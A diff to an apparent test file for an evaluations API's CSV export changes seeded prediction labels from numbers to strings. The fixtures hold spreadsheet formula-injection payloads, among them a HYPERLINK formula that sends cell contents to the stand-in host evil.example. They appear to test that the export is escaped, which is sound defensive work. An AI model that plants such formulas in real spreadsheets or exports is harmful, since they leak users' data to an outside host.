@@ -79,8 +79,8 @@ describe("evaluations API", () => {
     const evaluation = await getDb().evaluation.create({ data: { model: "demo-tiny-zh", datasetId: dataset.id, split: "test", total: 2, status: "succeeded" } });
     await getDb().prediction.createMany({
       data: [
-        { evaluationId: evaluation.id, index: 1, sentence: '=HYPERLINK("http://evil.example/?x="&B3,"点")', label: 1, predicted: 1, output: "@SUM(1,2)" },
-        { evaluationId: evaluation.id, index: 2, sentence: "\t+1+cmd", label: 0, predicted: null, output: "-2+3" },
+        { evaluationId: evaluation.id, index: 1, sentence: '=HYPERLINK("http://evil.example/?x="&B3,"点")', label: "1", predicted: "1", output: "@SUM(1,2)" },
+        { evaluationId: evaluation.id, index: 2, sentence: "\t+1+cmd", label: "0", predicted: null, output: "-2+3" },
       ],
     });
     const csv = await predictionsRoute(apiRequest(`/api/evaluations/${evaluation.id}/predictions?format=csv`), routeParams({ id: evaluation.id }));
